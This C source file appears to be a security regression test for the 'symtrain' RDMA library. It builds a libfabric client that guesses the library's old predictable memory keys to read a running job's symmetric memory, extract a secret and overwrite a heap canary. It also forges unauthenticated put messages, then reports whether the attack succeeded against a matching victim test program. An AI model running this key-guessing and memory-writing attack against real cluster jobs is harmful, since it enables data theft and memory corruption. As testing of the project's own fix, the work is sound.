/*
 * net_attacker — a stranger on the network with plain libfabric: it reaches a
 * running job's fabric endpoints and tries to read and write their symmetric
 * memory the way the old keys allowed (segment index + 1, addresses from 0),
 * knowing what the job's data look like (the markers of tests/net_victim.c).
 *
 *   net_attacker PROVIDER HOST:PORT...
 *
 * For each endpoint and each guessed key (on an endpoint of its own: a
 * provider may drop the connection after a bad key) it reads the segment from offset 0
 * in 4 KiB pieces, looks for the global's marker (and reads the secret after
 * it) and the heap's canary (and writes over it). Then it sends forged
 * batches of puts, the messages a PE's CPU applies to its memory without any
 * memory key, over the heap's canary (where the heap's first allocation
 * lies): in the old layout (no message key) and in the new one with guessed
 * keys. Whether those landed only the victim can tell (it checks its canary
 * at the end). Exits 0 when nothing could
 * be read or written ("the attack failed"), 3 when anything could, 1 when it
 * could not even run (no provider, bad arguments) or a target never answered.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define MARK "symtrain-victim-global-canary!!!"
#define HEAP_MARK "symtrain-victim-heap-canary!!!!!"
#define PIECE 4096
#define SPAN (4 << 20) /* bytes searched from each start */
/* Where to look, from symtrain's published layout: the data segment from its
 * start; the heap past its internal area (32 teams x 4 MiB, src/shmem/init.c). */
static const uint64_t starts[] = {0, (uint64_t)32 << 22};

static struct fi_info *info;
static struct fid_fabric *fabric;
static struct fid_domain *domain;
static struct fid_ep *ep;
static struct fid_cq *cq;
static struct fid_av *av;

static void die(const char *what, int rc) {
    fprintf(stderr, "net_attacker: %s: %s\n", what, fi_strerror(-rc));
    exit(1);
}

/* Wait for the one operation posted: 0 when it completed, else the error. */
static int wait_one(void) {
    struct fi_cq_entry e;
    time_t start = time(NULL);
    for (;;) {
        ssize_t n = fi_cq_read(cq, &e, 1);
        if (n == 1) return 0;
        if (n == -FI_EAVAIL) {
            struct fi_cq_err_entry err = {0};
            fi_cq_readerr(cq, &err, 0);
            return err.err ? -err.err : -FI_EIO;
        }
        if (n != -FI_EAGAIN) return (int)n;
        if (time(NULL) - start > 3) return -FI_ETIMEDOUT;
    }
}

/* One read or write, waited for. The first to a target may find the
 * connection still being made (FI_ENOTCONN): that is tried again. */
/* A batch of one put of `len` bytes at heap offset `at`, as symtrain's PEs
 * send them (src/transport/ofi.c); with the message key field when `keyed`. */
static void forge_batch(fi_addr_t to, int keyed, uint32_t from, uint64_t key, uint64_t at) {
    char msg[128] = {0}, pwn[32] = "pwned-by-a-stranger-on-the-net!";
    size_t h = keyed ? 32 : 24, len = h + 16 + sizeof pwn;
    uint32_t bytes = (uint32_t)len, seq = 0; /* a PE's count of its own batches to itself */
    uint64_t ent[2] = {at, sizeof pwn};
    msg[0] = 4; /* AM_PUTS */
    memcpy(msg + 4, &from, 4);
    if (keyed) memcpy(msg + 8, &key, 8);
    memcpy(msg + h - 8, &bytes, 4);
    memcpy(msg + h - 4, &seq, 4);
    memcpy(msg + h, ent, sizeof ent);
    memcpy(msg + h + 16, pwn, sizeof pwn);
    int rc;
    time_t start = time(NULL);
    do {
        rc = (int)fi_send(ep, msg, len, NULL, to, NULL);
        if (!rc) rc = wait_one();
        if (rc == -FI_EAGAIN || rc == -FI_ENOTCONN) fi_cq_read(cq, NULL, 0);
    } while ((rc == -FI_EAGAIN || rc == -FI_ENOTCONN) && time(NULL) - start < 3);
    printf("net_attacker: forged batch (%s, from PE %u, key %llu) sent: %s\n",
           keyed ? "keyed" : "old layout", from, (unsigned long long)key,
           rc ? fi_strerror(-rc) : "ok");
}

static int rma(int write, void *buf, size_t len, fi_addr_t to, uint64_t addr, uint64_t key) {
    int rc;
    time_t start = time(NULL);
    do {
        rc = (int)(write ? fi_write(ep, buf, len, NULL, to, addr, key, NULL)
                         : fi_read(ep, buf, len, NULL, to, addr, key, NULL));
        if (!rc) rc = wait_one();
        if (rc == -FI_EAGAIN || rc == -FI_ENOTCONN) fi_cq_read(cq, NULL, 0);
    } while ((rc == -FI_EAGAIN || rc == -FI_ENOTCONN) && time(NULL) - start < 3);
    return rc;
}

/* A fresh endpoint, with `sa` in its address vector as *to. */
static void open_ep(const struct sockaddr_in *sa, fi_addr_t *to) {
    int rc;
    if ((rc = fi_fabric(info->fabric_attr, &fabric, NULL))) die("fi_fabric", rc);
    if ((rc = fi_domain(fabric, info, &domain, NULL))) die("fi_domain", rc);
    struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_CONTEXT, .size = 64};
    if ((rc = fi_cq_open(domain, &cqa, &cq, NULL))) die("fi_cq_open", rc);
    struct fi_av_attr ava = {.type = FI_AV_TABLE};
    if ((rc = fi_av_open(domain, &ava, &av, NULL))) die("fi_av_open", rc);
    if ((rc = fi_endpoint(domain, info, &ep, NULL))) die("fi_endpoint", rc);
    if ((rc = fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV)) ||
        (rc = fi_ep_bind(ep, &av->fid, 0)) || (rc = fi_enable(ep)))
        die("fi_ep_bind/fi_enable", rc);
    if (fi_av_insert(av, sa, 1, to, 0, NULL) != 1) die("fi_av_insert", -FI_EINVAL);
}

static void close_ep(void) {
    fi_close(&ep->fid);
    fi_close(&av->fid);
    fi_close(&cq->fid);
    fi_close(&domain->fid);
    fi_close(&fabric->fid);
}

int main(int argc, char **argv) {
    if (argc < 3) {
        fprintf(stderr, "usage: net_attacker PROVIDER HOST:PORT...\n");
        return 1;
    }
    struct fi_info *hints = fi_allocinfo();
    hints->ep_attr->type = FI_EP_RDM;
    hints->caps = FI_MSG | FI_RMA | FI_READ | FI_WRITE;
    hints->mode = FI_CONTEXT | FI_CONTEXT2;
    hints->domain_attr->mr_mode = FI_MR_VIRT_ADDR | FI_MR_ALLOCATED | FI_MR_PROV_KEY;
    hints->fabric_attr->prov_name = strdup(argv[1]);
    int rc = fi_getinfo(FI_VERSION(1, 9), NULL, NULL, 0, hints, &info);
    if (rc) die("fi_getinfo", rc);

    char *buf = malloc(PIECE);
    int reached = 0, won = 0, unanswered = 0;
    for (int t = 2; t < argc; t++) {
        char host[64];
        int port;
        if (sscanf(argv[t], "%63[^:]:%d", host, &port) != 2) {
            fprintf(stderr, "net_attacker: '%s' is not HOST:PORT\n", argv[t]);
            return 1;
        }
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        inet_pton(AF_INET, host, &sa.sin_addr);
        /* The old keys: segment index + 1 (heap 1, globals 2); a few more. */
        int answered = 0; /* the target took or refused a request: it was reached */
        for (uint64_t key = 0; key <= 4; key++) {
            fi_addr_t to;
            open_ep(&sa, &to);
            int last_rc = 0;
            uint64_t got = 0;
            for (size_t st = 0; st < sizeof starts / sizeof *starts; st++)
            for (uint64_t off = starts[st]; off < starts[st] + SPAN; off += PIECE) {
                rc = rma(0, buf, PIECE, to, off, key);
                last_rc = rc;
                if (rc) break;
                got += PIECE;
                reached = 1;
                for (size_t i = 0; i + 64 <= PIECE; i += 8) {
                    if (!memcmp(buf + i, MARK, 32)) {
                        uint64_t secret;
                        memcpy(&secret, buf + i + 32, 8);
                        printf("net_attacker: READ the global secret 0x%llx of %s (key %llu, "
                               "offset %llu)\n",
                               (unsigned long long)secret, argv[t], (unsigned long long)key,
                               (unsigned long long)(off + i));
                        won = 1;
                    }
                    if (!memcmp(buf + i, HEAP_MARK, 32)) {
                        char pwn[32] = "pwned-by-a-stranger-on-the-net!";
                        if (rma(1, pwn, 32, to, off + i, key) == 0) {
                            printf("net_attacker: WROTE the heap of %s (key %llu, offset %llu)\n",
                                   argv[t], (unsigned long long)key,
                                   (unsigned long long)(off + i));
                            won = 1;
                        }
                        break;
                    }
                }
            }
            printf("net_attacker: %s key %llu: %s, %llu bytes read\n", argv[t],
                   (unsigned long long)key, last_rc ? fi_strerror(-last_rc) : "ok",
                   (unsigned long long)got);
            answered |= last_rc != -FI_ENOTCONN && last_rc != -FI_ETIMEDOUT;
            close_ep();
        }
        fi_addr_t to;
        open_ep(&sa, &to);
        for (uint32_t from = 0; from < 2; from++) {
            forge_batch(to, 0, from, 0, starts[1]);
            for (uint64_t key = 0; key <= 4; key++) forge_batch(to, 1, from, key, starts[1]);
        }
        close_ep();
        if (!answered) {
            printf("net_attacker: %s never answered: this run proves nothing\n", argv[t]);
            unanswered = 1;
        }
    }
    printf("net_attacker: %s\n", won ? "the attack SUCCEEDED" : reached ? "read memory but "
           "found nothing" : "the attack failed: nothing read or written");
    free(buf);
    fi_freeinfo(info);
    fi_freeinfo(hints);
    return won || reached ? 3 : unanswered ? 1 : 0;
}
